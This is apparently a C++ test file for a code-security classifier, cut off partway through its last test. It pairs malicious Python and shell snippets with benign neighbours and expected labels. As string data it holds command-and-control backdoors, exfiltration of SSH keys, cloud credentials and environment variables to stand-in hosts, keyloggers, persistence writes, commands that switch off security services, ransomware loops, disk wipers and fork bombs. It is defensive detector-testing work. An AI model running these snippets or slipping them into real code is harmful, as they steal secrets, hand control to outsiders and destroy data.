// The coverage round (issue 14): families of spellings found missing by a
// systematic audit of the rubric's classes against the standard library's and
// common packages' APIs (docs/assessment-coverage.md), each closed as data in
// the library model or as one mechanism for the family. Every malicious use
// has a benign neighbour that must stay where the rubric puts it.
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// What a chat user, a message broker or a peer sends reaches the code through
// handlers the library calls: decorated functions (a bot's message handler),
// methods overriding a protocol base class, callbacks set as attributes, and
// the receive calls of messaging clients. Run as a command it is remote code;
// chosen from a table it is a process run.
TEST(CoverageClasses, WhatAHandlerReceivesComesFromTheNetwork) {
  const Case cases[] = {
      {"a Telegram bot's /sh handler", B,
       "import subprocess, os, telebot\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
       "@bot.message_handler(commands=['sh'])\ndef shell(message):\n"
       "    bot.reply_to(message, subprocess.getoutput(message.text.split(' ', 1)[1]))\n"
       "bot.infinity_polling()\n",
       "REMOTE-CODE-EXECUTION"},
      {"a discord.py on_message event", B,
       "import subprocess, discord\nclient = discord.Client(intents=discord.Intents.default())\n"
       "@client.event\nasync def on_message(message):\n"
       "    await message.channel.send(subprocess.getoutput(message.content[5:]))\n",
       "REMOTE-CODE-EXECUTION"},
      {"a twisted Protocol's dataReceived", B,
       "import subprocess\nfrom twisted.internet import reactor, protocol\n"
       "class Shell(protocol.Protocol):\n    def dataReceived(self, data):\n"
       "        self.transport.write(subprocess.check_output(data, shell=True))\n",
       "REMOTE-CODE-EXECUTION"},
      {"an asyncio Protocol's data_received", B,
       "import asyncio, os\nclass P(asyncio.Protocol):\n    def data_received(self, data):\n"
       "        os.system(data.decode())\n",
       "REMOTE-CODE-EXECUTION"},
      {"paho's on_message set as an attribute", B,
       "import subprocess\nimport paho.mqtt.client as mqtt\n"
       "def on_message(client, userdata, msg):\n    client.publish('out', subprocess.check_output(msg.payload, shell=True))\n"
       "c = mqtt.Client()\nc.on_message = on_message\nc.connect('broker.example.net')\nc.loop_forever()\n",
       "REMOTE-CODE-EXECUTION"},
      {"websockets iterated", B,
       "import asyncio, subprocess, websockets\nasync def agent():\n"
       "    async with websockets.connect('wss://c2.example.org/ws') as ws:\n"
       "        async for message in ws:\n            await ws.send(subprocess.getoutput(message))\n",
       "REMOTE-CODE-EXECUTION"},
      {"ZeroMQ recv_string", B,
       "import subprocess, zmq\ns = zmq.Context().socket(zmq.REQ)\ns.connect('tcp://198.51.100.21:5555')\n"
       "while True:\n    s.send_string(subprocess.getoutput(s.recv_string()))\n",
       "REMOTE-CODE-EXECUTION"},
      {"Redis pub/sub messages", B,
       "import subprocess, redis\nr = redis.Redis(host='198.51.100.20')\np = r.pubsub()\np.subscribe('cmd')\n"
       "for m in p.listen():\n    r.publish('out', subprocess.getoutput(m['data']))\n",
       "REMOTE-CODE-EXECUTION"},
      {"a multiprocessing Client", B,
       "from multiprocessing.connection import Client\nimport subprocess\n"
       "conn = Client(('198.51.100.30', 6000), authkey=b'k')\nwhile True:\n    conn.send(subprocess.getoutput(conn.recv()))\n",
       "REMOTE-CODE-EXECUTION"},
      {"a paramiko channel", B,
       "import paramiko, subprocess\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('203.0.113.9')\n"
       "chan = c.get_transport().open_session()\nwhile True:\n    chan.send(subprocess.check_output(chan.recv(1024), shell=True))\n",
       "REMOTE-CODE-EXECUTION"},
      // Neighbours: a bot choosing among fixed commands, a sensor publishing,
      // an echo protocol, a multiprocessing listener on loopback (pickle).
      {"a chatops bot with a table of commands", M,
       "import subprocess, telebot, os\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
       "ALLOWED = {'uptime': ['uptime'], 'disk': ['df', '-h']}\n"
       "@bot.message_handler(commands=['status'])\ndef status(message):\n    argv = ALLOWED.get(message.text.split()[-1])\n"
       "    if argv:\n        bot.reply_to(message, subprocess.run(argv, capture_output=True, text=True).stdout)\n",
       "RUNS-PROCESS"},
      {"an MQTT sensor", L,
       "import json, time, psutil\nimport paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('mqtt.home.arpa')\n"
       "while True:\n    c.publish('pc/cpu', json.dumps({'cpu': psutil.cpu_percent()}))\n    time.sleep(60)\n"},
      {"an echo protocol", L,
       "from twisted.internet import protocol\nclass Echo(protocol.Protocol):\n"
       "    def dataReceived(self, data):\n        self.transport.write(data)\n"},
      {"a multiprocessing listener on loopback unpickles", M,
       "from multiprocessing.connection import Listener\nwith Listener(('localhost', 6000), authkey=b'k') as l:\n"
       "    with l.accept() as conn:\n        print(conn.recv())\n",
       "UNSAFE-DESERIALIZATION"},
  };
  for (const auto& c : cases) check(c);
}

// Messaging, cloud storage, file transfer, mail, chat and code-hosting SDKs
// send what they are given: a secret handed to one leaves the machine. Every
// method of an XML-RPC proxy sends its arguments.
TEST(CoverageClasses, SdkClientsSendWhatTheyAreGiven) {
  const Case cases[] = {
      {"MQTT publish.single of a key", B,
       "import os\nimport paho.mqtt.publish as publish\n"
       "publish.single('loot/k', open(os.path.expanduser('~/.ssh/id_rsa')).read(), hostname='broker.example.net')\n",
       "EXFILTRATION"},
      {"Redis set of AWS credentials", B,
       "import os, redis\nr = redis.Redis(host='198.51.100.20')\n"
       "r.set('aws', open(os.path.expanduser('~/.aws/credentials')).read())\n",
       "EXFILTRATION"},
      {"RabbitMQ publish of the environment", B,
       "import os, json, pika\nch = pika.BlockingConnection(pika.ConnectionParameters('mq.example.net')).channel()\n"
       "ch.basic_publish(exchange='', routing_key='loot', body=json.dumps(dict(os.environ)))\n",
       "EXFILTRATION"},
      {"Kafka send of a key", B,
       "import os\nfrom kafka import KafkaProducer\np = KafkaProducer(bootstrap_servers='kafka.example.net:9092')\n"
       "p.send('loot', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
       "EXFILTRATION"},
      {"socket.io emit of the environment", B,
       "import os, socketio\nsio = socketio.Client()\nsio.connect('http://198.51.100.22:5000')\nsio.emit('loot', dict(os.environ))\n",
       "EXFILTRATION"},
      {"an aiohttp websocket send_str", B,
       "import asyncio, os, aiohttp\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
       "        async with s.ws_connect('wss://c2.example.org/ws') as ws:\n"
       "            await ws.send_str(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
       "EXFILTRATION"},
      {"GCS upload_from_filename of credentials", B,
       "import os\nfrom google.cloud import storage\n"
       "storage.Client().bucket('loot').blob('aws').upload_from_filename(os.path.expanduser('~/.aws/credentials'))\n",
       "EXFILTRATION"},
      {"S3 Object.put of the environment", B,
       "import os, json, boto3\nboto3.resource('s3').Object('b', 'env.json').put(Body=json.dumps(dict(os.environ)))\n",
       "EXFILTRATION"},
      {"Azure upload_blob of a key", B,
       "import os\nfrom azure.storage.blob import BlobServiceClient\n"
       "svc = BlobServiceClient.from_connection_string(os.environ['AZ_CONN'])\n"
       "with open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as f:\n"
       "    svc.get_blob_client(container='c', blob='k').upload_blob(f)\n",
       "EXFILTRATION"},
      {"Dropbox files_upload of a key", B,
       "import os, dropbox\ndropbox.Dropbox('t').files_upload(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read(), '/k')\n",
       "EXFILTRATION"},
      {"Drive MediaFileUpload of browser logins", B,
       "import os\nfrom googleapiclient.http import MediaFileUpload\n"
       "media = MediaFileUpload(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))\n",
       "EXFILTRATION"},
      {"pysftp put of a key", B,
       "import os, pysftp\nwith pysftp.Connection('files.example.org', username='u', password='p') as sftp:\n"
       "    sftp.put(os.path.expanduser('~/.ssh/id_rsa'), '/up/id_rsa')\n",
       "EXFILTRATION"},
      {"scp.SCPClient put of credentials", B,
       "import os, paramiko\nfrom scp import SCPClient\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('h')\n"
       "with SCPClient(c.get_transport()) as scp:\n    scp.put(os.path.expanduser('~/.aws/credentials'), '/tmp/c')\n",
       "EXFILTRATION"},
      {"yagmail contents", B,
       "import os, yagmail\nyagmail.SMTP('bot@example.org', 'pw').send(to='x@example.org', subject='k', "
       "contents=open(os.path.expanduser('~/.ssh/id_ed25519')).read())\n",
       "EXFILTRATION"},
      {"a PyGithub gist", B,
       "import os\nfrom github import Github, InputFileContent\ng = Github(os.environ['GH_TOKEN'])\n"
       "g.get_user().create_gist(False, {'k': InputFileContent(open(os.path.expanduser('~/.ssh/id_rsa')).read())})\n",
       "EXFILTRATION"},
      {"telethon send_file", B,
       "import os\nfrom telethon.sync import TelegramClient\nwith TelegramClient('s', 1, 'h') as client:\n"
       "    client.send_file('me', os.path.expanduser('~/.aws/credentials'))\n",
       "EXFILTRATION"},
      {"dhooks webhook", B,
       "import os\nfrom dhooks import Webhook\n"
       "Webhook('https://discord.com/api/webhooks/1/x').send(os.environ['AWS_SECRET_ACCESS_KEY'])\n",
       "EXFILTRATION"},
      {"an XML-RPC proxy's method", B,
       "import os, xmlrpc.client\nproxy = xmlrpc.client.ServerProxy('http://198.51.100.24:8000/')\n"
       "proxy.store(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
       "EXFILTRATION"},
      {"pycurl POSTFIELDS", B,
       "import os, pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'http://198.51.100.25/k')\n"
       "c.setopt(pycurl.POSTFIELDS, open(os.path.expanduser('~/.ssh/id_rsa')).read())\nc.perform()\n",
       "EXFILTRATION"},
      // Neighbours: the same SDKs with ordinary data.
      {"a report uploaded to GCS", L,
       "from google.cloud import storage\nstorage.Client().bucket('artifacts').blob('a.tgz').upload_from_filename('dist/a.tgz')\n"},
      {"a temperature published", L, "import paho.mqtt.publish as publish\npublish.single('home/temp', '21.5', hostname='mqtt.local')\n"},
      {"a report put by pysftp", L,
       "import pysftp\nwith pysftp.Connection('files.example.com', username='u', private_key='~/.ssh/id_ed25519') as s:\n"
       "    s.put('out/report.pdf', '/reports/report.pdf')\n"},
      {"an XML-RPC status call", L,
       "import xmlrpc.client\nproxy = xmlrpc.client.ServerProxy('http://localhost:9001/RPC2')\nprint(proxy.supervisor.getState())\n"},
      {"pycurl posting a form field", L,
       "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://example.com/form')\n"
       "c.setopt(pycurl.POSTFIELDS, 'name=alice')\nc.perform()\n"},
  };
  for (const auto& c : cases) check(c);
}

// What comes back from an SDK's download is data from the network: S3 and
// GCS objects, FTP downloads through their callback, a pycurl write function.
TEST(CoverageClasses, SdkDownloadsComeFromTheNetwork) {
  const Case cases[] = {
      {"an S3 object downloaded and run", B,
       "import boto3, subprocess\nboto3.client('s3').download_file('b', 'agent.py', '/tmp/agent.py')\n"
       "subprocess.run(['python3', '/tmp/agent.py'])\n",
       "REMOTE-CODE-EXECUTION"},
      {"a GCS blob executed", B,
       "from google.cloud import storage\nexec(storage.Client().bucket('d').blob('s.py').download_as_text())\n",
       "REMOTE-CODE-EXECUTION"},
      {"an FTP download run", B,
       "import ftplib, os\nftp = ftplib.FTP('ftp.example.net')\nftp.login()\nwith open('upd.bin', 'wb') as f:\n"
       "    ftp.retrbinary('RETR upd.bin', f.write)\nos.chmod('upd.bin', 0o755)\nos.system('./upd.bin')\n",
       "REMOTE-CODE-EXECUTION"},
      {"pycurl into a buffer, executed", B,
       "import pycurl\nfrom io import BytesIO\nbuf = BytesIO()\nc = pycurl.Curl()\n"
       "c.setopt(c.URL, 'https://example.net/s.py')\nc.setopt(c.WRITEDATA, buf)\nc.perform()\nexec(buf.getvalue())\n",
       "REMOTE-CODE-EXECUTION"},
      // Neighbours: downloads kept as data.
      {"an S3 report downloaded and read", L,
       "import boto3, csv\nboto3.client('s3').download_file('b', 'r.csv', 'r.csv')\nprint(list(csv.reader(open('r.csv'))))\n"},
      {"an FTP listing", M,
       "import ftplib\nftp = ftplib.FTP('ftp.example.com')\nftp.login()\nftp.retrlines('LIST', print)\n",
       "CLEARTEXT-PROTOCOL"},
  };
  for (const auto& c : cases) check(c);
}

// A record logged goes where the logging system's handlers send it: a
// secret logged through a handler to another host (syslog, a socket, HTTP,
// mail) leaves the machine. Handlers on this machine (/dev/log) send nothing.
TEST(CoverageClasses, LoggingHandlersSendWhatIsLogged) {
  const Case cases[] = {
      {"a key logged through a remote SysLogHandler", B,
       "import logging, logging.handlers, os\nlog = logging.getLogger('x')\n"
       "log.addHandler(logging.handlers.SysLogHandler(address=('198.51.100.23', 514)))\n"
       "log.warning(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
       "EXFILTRATION"},
      {"the environment through HTTPHandler", B,
       "import logging, logging.handlers, os\nlog = logging.getLogger('x')\n"
       "log.addHandler(logging.handlers.HTTPHandler('198.51.100.23:8080', '/log', method='POST'))\n"
       "log.error('env %s', dict(os.environ))\n",
       "EXFILTRATION"},
      {"an AWS key through basicConfig's SocketHandler and logging.critical", B,
       "import logging, logging.handlers, os\n"
       "logging.basicConfig(handlers=[logging.handlers.SocketHandler('198.51.100.23', 9020)])\n"
       "logging.critical(os.environ.get('AWS_SECRET_ACCESS_KEY'))\n",
       "EXFILTRATION"},
      // Neighbours: the local syslog, and ordinary records to a remote collector.
      {"a key logged to /dev/log", L,
       "import logging, logging.handlers\nlog = logging.getLogger('app')\n"
       "log.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\nlog.info('started %s', 'worker')\n"},
      {"service events to a remote syslog", L,
       "import logging, logging.handlers\nlog = logging.getLogger('app')\n"
       "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.com', 514)))\n"
       "for job in ('a', 'b'):\n    log.info('job %s done', job)\n"},
      {"a login recorded with the user's name", L,
       "import getpass, logging, logging.handlers\nlog = logging.getLogger('app')\n"
       "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.com', 514)))\n"
       "log.info('login by %s', getpass.getuser())\n"},
  };
  for (const auto& c : cases) check(c);
}

// Secrets the model did not know where to find: package registries' and
// databases' credential files, cluster admin configurations, password
// databases, another process's environment, and the command-line clients
// that print a stored credential (gcloud, aws, gh, vault ...).
TEST(CoverageClasses, MoreCredentialStoresAndPrinters) {
  const Case cases[] = {
      {"cargo's registry token", B,
       "from pathlib import Path\nimport requests\n"
       "requests.post('https://paste.example.org/api', data=(Path.home() / '.cargo' / 'credentials.toml').read_text())\n",
       "EXFILTRATION"},
      {"~/.my.cnf over a socket", B,
       "import os, socket\ns = socket.create_connection(('203.0.113.9', 9000))\n"
       "s.sendall(open(os.path.expanduser('~/.my.cnf'), 'rb').read())\n",
       "EXFILTRATION"},
      {"the cluster admin kubeconfig", B,
       "import requests\nrequests.post('http://203.0.113.9/k', files={'f': open('/etc/kubernetes/admin.conf', 'rb')})\n",
       "EXFILTRATION"},
      {"a KeePass database in a subdirectory", B,
       "import os, requests\n"
       "requests.post('http://203.0.113.9/kp', files={'db': open(os.path.expanduser('~/Documents/Passwords.kdbx'), 'rb')})\n",
       "EXFILTRATION"},
      {"every process's environment by psutil", B,
       "import psutil, requests\nenvs = {p.pid: p.environ() for p in psutil.process_iter()}\n"
       "requests.post('http://203.0.113.9/e', json=envs)\n",
       "EXFILTRATION"},
      {"gcloud's access token", B,
       "import subprocess, requests\ntok = subprocess.check_output(['gcloud', 'auth', 'print-access-token'], text=True)\n"
       "requests.post('http://203.0.113.9/t', data={'t': tok})\n",
       "EXFILTRATION"},
      {"gh auth token to a collector", B, "gh auth token | curl -s -d @- https://webhook.site/abc\n", "EXFILTRATION", SH},
      {"aws configure get of the secret key", B,
       "import subprocess, requests\nsk = subprocess.getoutput('aws configure get aws_secret_access_key')\n"
       "requests.get('http://203.0.113.9/a', params={'s': sk})\n",
       "EXFILTRATION"},
      // Neighbours: the same clients for ordinary work, a process list.
      {"gcloud config list", M, "import subprocess\nprint(subprocess.check_output(['gcloud', 'config', 'list']))\n",
       "RUNS-PROCESS"},
      {"aws s3 ls in a script", L, "aws s3 ls s3://my-bucket/reports/ | tail -5\n", nullptr, SH},
      {"process names and CPU by psutil", L,
       "import psutil, requests\nprocs = [(p.pid, p.name()) for p in psutil.process_iter()]\n"
       "requests.post('https://metrics.example.com/procs', json=procs)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Capture the model did not know: Qt's and GTK's clipboards, more screenshot
// libraries and ImageMagick's `import`, keyboard hooks set as attributes
// (pyxhook) and the X RECORD extension, keyboards read from /dev/input, and
// recordings written to a file by an audio library.
TEST(CoverageClasses, MoreCaptureThatLeaves) {
  const Case cases[] = {
      {"Qt clipboard sent", B,
       "import requests\nfrom PyQt5.QtWidgets import QApplication\napp = QApplication([])\n"
       "requests.post('http://198.51.100.41/c', data=app.clipboard().text())\n",
       "EXFILTRATION"},
      {"GTK clipboard sent", B,
       "import requests\nfrom gi.repository import Gtk, Gdk\ncb = Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD)\n"
       "requests.post('http://198.51.100.41/c', data=cb.wait_for_text())\n",
       "EXFILTRATION"},
      {"pyscreenshot to a webhook", B,
       "import pyscreenshot, requests\npyscreenshot.grab().save('s.png')\n"
       "requests.post('https://discord.com/api/webhooks/1/x', files={'f': open('s.png', 'rb')})\n",
       "EXFILTRATION"},
      {"ImageMagick import then curl", B, "import -window root /tmp/s.png && curl -F f=@/tmp/s.png http://198.51.100.41/s\n",
       "EXFILTRATION", SH},
      {"pyxhook keys to a socket", B,
       "import pyxhook, socket\ns = socket.create_connection(('198.51.100.41', 9000))\n"
       "def onkey(event):\n    s.send(event.Key.encode())\nhm = pyxhook.HookManager()\nhm.KeyDown = onkey\nhm.start()\n",
       "EXFILTRATION"},
      {"X RECORD keylogger", B,
       "from Xlib import display\nimport requests\nd = display.Display()\n"
       "def cb(reply):\n    requests.post('http://198.51.100.41/x', data=reply.data)\n"
       "d.record_enable_context(None, cb)\n",
       "EXFILTRATION"},
      {"/dev/input read and sent", B,
       "import socket\ns = socket.create_connection(('198.51.100.41', 9001))\nwith open('/dev/input/event0', 'rb') as f:\n"
       "    while True:\n        s.send(f.read(24))\n",
       "EXFILTRATION"},
      {"a microphone recording uploaded", B,
       "import sounddevice as sd, soundfile as sf, requests\nrec = sd.rec(441000, samplerate=44100, channels=1)\n"
       "sf.write('r.wav', rec, 44100)\nrequests.post('http://198.51.100.41/a', files={'f': open('r.wav', 'rb')})\n",
       "EXFILTRATION"},
      // Neighbours: captures kept on the machine, text put on the clipboard.
      {"a screenshot saved", L, "import pyscreenshot\npyscreenshot.grab().save('screen.png')\n"},
      {"text copied to the Qt clipboard", L,
       "from PyQt5.QtWidgets import QApplication\napp = QApplication([])\napp.clipboard().setText('generated')\n"},
      {"a recording saved", L,
       "import sounddevice as sd, soundfile as sf\nrec = sd.rec(441000, samplerate=44100, channels=1)\nsf.write('memo.wav', rec, 44100)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Places that run code at the next login, shell or interpreter start, or
// session, beyond the rc files: aliases and fish's conf.d, IPython's startup
// directory, the PAM environment, desktop sessions' autostart lists, anacron,
// macOS login items and the Windows Startup folder.
TEST(CoverageClasses, MorePersistenceLocations) {
  const Case cases[] = {
      {"~/.bash_aliases", B,
       "from pathlib import Path\n(Path.home() / '.bash_aliases').open('a').write(\"alias sudo='~/.local/bin/s'\\n\")\n",
       "PERSISTENCE"},
      {"fish conf.d", B,
       "from pathlib import Path\np = Path.home() / '.config/fish/conf.d/update.fish'\np.write_text('~/.cache/agent &\\n')\n",
       "PERSISTENCE"},
      {"an IPython startup file", B,
       "import os\nd = os.path.expanduser('~/.ipython/profile_default/startup')\n"
       "open(os.path.join(d, '00-x.py'), 'w').write('import os\\n')\n",
       "PERSISTENCE"},
      {"~/.pam_environment", B,
       "import os\nopen(os.path.expanduser('~/.pam_environment'), 'a').write('LD_PRELOAD DEFAULT=/tmp/l.so\\n')\n",
       "PERSISTENCE"},
      {"LXDE autostart", B, "echo '@/home/u/.cache/a' >> ~/.config/lxsession/LXDE/autostart\n", "PERSISTENCE", SH},
      {"/etc/anacrontab", B, "open('/etc/anacrontab', 'a').write('1 5 upd /usr/local/bin/upd\\n')\n", "PERSISTENCE"},
      {"the Startup folder from %APPDATA%", B,
       "import os, shutil, sys\n"
       "startup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
       "shutil.copy(sys.argv[0], os.path.join(startup, 'upd.exe'))\n",
       "PERSISTENCE"},
      // Neighbours: an application's own settings, a read of the rc file.
      {"an app's settings under ~/.config", L,
       "import json, os\nd = os.path.expanduser('~/.config/myapp')\nos.makedirs(d, exist_ok=True)\n"
       "json.dump({'theme': 'dark'}, open(os.path.join(d, 'settings.json'), 'w'))\n"},
      {"aliases listed", L,
       "import os\nfor line in open(os.path.expanduser('~/.bash_aliases')):\n    print(line.strip())\n"},
  };
  for (const auto& c : cases) check(c);
}

// pathlib's reads of a walked file count as reads of that file, so writing
// encrypted bytes back over it is ransomware, as with open().
TEST(CoverageClasses, PathlibReadsOfWalkedFilesAreRemembered) {
  const Case cases[] = {
      {"rglob, read_bytes, encrypted write_bytes in place", B,
       "from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
       "for p in Path.home().rglob('*.docx'):\n    p.write_bytes(f.encrypt(p.read_bytes()))\n",
       "RANSOMWARE"},
      // Neighbour: encrypted copies next to the originals.
      {"encrypted copies beside the originals", L,
       "from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
       "for p in Path('exports').glob('*.csv'):\n    p.with_suffix('.enc').write_bytes(f.encrypt(p.read_bytes()))\n"},
  };
  for (const auto& c : cases) check(c);
}

// A credential a command-line client prints is a key named after that
// client: sent to its vendor's API it authenticates (LOW beside the process
// run), sent anywhere else it is exfiltration.
TEST(CoverageClasses, APrintedCredentialBelongsToItsClientsVendor) {
  const Case cases[] = {
      {"gcloud's token as a bearer to Google", M,
       "import subprocess, requests\ntok = subprocess.check_output(['gcloud', 'auth', 'print-access-token'], text=True).strip()\n"
       "requests.get('https://storage.googleapis.com/storage/v1/b', headers={'Authorization': f'Bearer {tok}'})\n",
       "RUNS-PROCESS"},
      {"gh's token as a bearer to GitHub", L,
       "TOKEN=$(gh auth token)\ncurl -s -H \"Authorization: Bearer $TOKEN\" https://api.github.com/user\n", nullptr, SH},
      {"gcloud's token as a bearer to a numeric address", B,
       "import subprocess, requests\ntok = subprocess.check_output(['gcloud', 'auth', 'print-access-token'], text=True).strip()\n"
       "requests.get('http://203.0.113.9/', headers={'Authorization': f'Bearer {tok}'})\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Security controls switched off in spellings beyond systemctl and iptables:
// systemd's D-Bus manager and pystemd (their methods are systemctl's verbs),
// python-iptables flushing or accepting everything, fail2ban-client stop,
// pkill/killall of a security daemon, bash's `set +o history`, the journal's
// directory removed.
TEST(CoverageClasses, MoreWaysToSwitchSecurityOff) {
  const Case cases[] = {
      {"D-Bus StopUnit of firewalld", B,
       "import dbus\nbus = dbus.SystemBus()\n"
       "mgr = dbus.Interface(bus.get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'org.freedesktop.systemd1.Manager')\n"
       "mgr.StopUnit('firewalld.service', 'replace')\n",
       "DISABLE-SECURITY"},
      {"D-Bus DisableUnitFiles of auditd", B,
       "import dbus\nmgr = dbus.Interface(dbus.SystemBus().get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'x')\n"
       "mgr.DisableUnitFiles(['auditd.service'], False)\n",
       "DISABLE-SECURITY"},
      {"pystemd stops auditd", B,
       "from pystemd.systemd1 import Unit\nu = Unit(b'auditd.service')\nu.load()\nu.Unit.Stop(b'replace')\n", "DISABLE-SECURITY"},
      {"python-iptables flushes the filter table", B, "import iptc\niptc.Table(iptc.Table.FILTER).flush()\n",
       "DISABLE-SECURITY"},
      {"python-iptables accepts everything", B,
       "import iptc\niptc.Chain(iptc.Table(iptc.Table.FILTER), 'INPUT').set_policy(iptc.Policy('ACCEPT'))\n",
       "DISABLE-SECURITY"},
      {"fail2ban-client stop", B, "fail2ban-client stop\n", "DISABLE-SECURITY", SH},
      {"pkill -9 auditd", B, "pkill -9 auditd\n", "DISABLE-SECURITY", SH},
      {"set +o history", B, "set +o history\ncurl -s http://198.51.100.5/x -o /tmp/x\n", "DISABLE-SECURITY", SH},
      {"the journal removed", B, "import shutil\nshutil.rmtree('/var/log/journal', ignore_errors=True)\n", "DISABLE-SECURITY"},
      // Neighbours: a service restarted over D-Bus, the user's own units, a rule added, the app's own process killed.
      {"D-Bus RestartUnit of nginx", H,
       "import dbus\nmgr = dbus.Interface(dbus.SystemBus().get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'x')\n"
       "mgr.RestartUnit('nginx.service', 'replace')\n",
       "SYSTEM-ADMINISTRATION"},
      {"the session bus's own unit", L,
       "import dbus\nmgr = dbus.Interface(dbus.SessionBus().get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'), 'x')\n"
       "mgr.StartUnit('myapp.service', 'replace')\n"},
      {"pystemd restarts nginx", H, "from pystemd.systemd1 import Unit\nu = Unit(b'nginx.service')\nu.load()\nu.Unit.Restart(b'replace')\n",
       "SYSTEM-ADMINISTRATION"},
      {"python-iptables inserts a rule", H,
       "import iptc\nchain = iptc.Chain(iptc.Table(iptc.Table.FILTER), 'INPUT')\nchain.insert_rule(iptc.Rule())\n",
       "SYSTEM-ADMINISTRATION"},
      {"pkill of the app's own worker", L, "pkill -f myapp.py || true\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Ransomware and wipers in the shell's own tools: gpg, age and ccrypt encrypt,
// a password makes an archive encrypted, removing a directory of the user's
// recursively removes the files it holds, and a walk of / is every top-level
// entry (find / -delete, a listing of / removed one by one).
TEST(CoverageClasses, ShellEncryptionAndWalksOfTheRoot) {
  const Case cases[] = {
      {"gpg -c over found files, shredded", B,
       "find \"$HOME\" -type f -name '*.pdf' | while read -r f; do\n"
       "  gpg --batch --yes --passphrase k -c \"$f\" && shred -u \"$f\"\ndone\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"ccrypt over found files", B,
       "find ~/Documents -type f | while read -r f; do ccrypt -K k \"$f\"; done\n", "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"a password zip of Documents, then removed", B, "zip -r -P hunter2 /tmp/x.zip ~/Documents && rm -rf ~/Documents\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"a glob loop over Documents, encrypted with openssl and removed", B,
       "for f in ~/Documents/*; do\n  openssl enc -aes-256-cbc -salt -in \"$f\" -out \"$f.enc\" -pass pass:k\n"
       "  rm -f \"$f\"\ndone\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"a loop over ls's names, encrypted and removed", B,
       "for f in $(ls ~/Documents); do\n  openssl enc -aes-256-cbc -in ~/Documents/$f -out ~/Documents/$f.enc -k x\n"
       "  rm -f ~/Documents/$f\ndone\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"find / -delete", B, "find / -mindepth 1 -delete 2>/dev/null\n", "WIPE", SH},
      {"every entry of / removed", B,
       "import os, shutil\nfor e in os.listdir('/'):\n    shutil.rmtree(os.path.join('/', e), ignore_errors=True)\n", "WIPE"},
      // Neighbours: one backup encrypted, a decryption, a build zipped and its directory removed.
      {"one backup encrypted with gpg", L,
       "tar czf backup.tgz project/ && gpg -c --batch --passphrase \"$PASS\" backup.tgz && rm backup.tgz\n", nullptr, SH},
      {"gpg verify and decrypt", L, "gpg --verify r.tgz.sig r.tgz\ngpg -d secrets.txt.gpg > secrets.txt\n", nullptr, SH},
      {"a build zipped, its directory removed", L, "zip -r dist.zip build/ && rm -rf build/\n", nullptr, SH},
      {"an app's cache removed", L, "rm -rf ~/.cache/myapp\n", nullptr, SH},
      {"the logs of a glob compressed", L, "for f in logs/*.log; do gzip -k \"$f\"; done\nls -la logs\n", nullptr, SH},
      {"one named file encrypted for sending, the plain copy removed", L,
       "openssl enc -aes-256-cbc -pbkdf2 -in report.pdf -out report.pdf.enc -pass env:PASS && rm report.pdf\n", nullptr,
       SH},
  };
  for (const auto& c : cases) check(c);
}

// Processes without end in two more shapes: a function that makes a process
// pool and submits itself to it, and a shell loop that never waits putting
// commands in the background.
TEST(CoverageClasses, PoolRecursionAndBackgroundLoopsAreBombs) {
  const Case cases[] = {
      {"a ProcessPoolExecutor submitting its own function", B,
       "from concurrent.futures import ProcessPoolExecutor\ndef bomb(n):\n    with ProcessPoolExecutor() as ex:\n"
       "        ex.submit(bomb, n + 1)\n        ex.submit(bomb, n + 1)\nbomb(0)\n",
       "FORK-BOMB"},
      {"while true; do ./worker & done", B, "while true; do ./worker & done\n", "FORK-BOMB", SH},
      // Neighbours: a pool per batch in a daemon loop, a pool over data, a restart loop that waits.
      {"a pool per batch", L,
       "import time\nfrom multiprocessing import Pool\ndef work(x):\n    return x * x\nwhile True:\n"
       "    with Pool(4) as p:\n        print(p.map(work, range(100)))\n    time.sleep(60)\n"},
      {"a process pool over data", L,
       "from concurrent.futures import ProcessPoolExecutor\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n"
       "with ProcessPoolExecutor() as ex:\n    print(list(ex.map(fib, range(25))))\n"},
      {"a restart loop that sleeps", L, "while true; do ./server; sleep 1; done\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Packages installed by other spellings than `pip install NAME`: a setup()'s
// install_requires, and a requirements file the code wrote and pip read.
TEST(CoverageClasses, PackagesDeclaredOrListedAreJudged) {
  const Case cases[] = {
      {"a typosquat in install_requires", B,
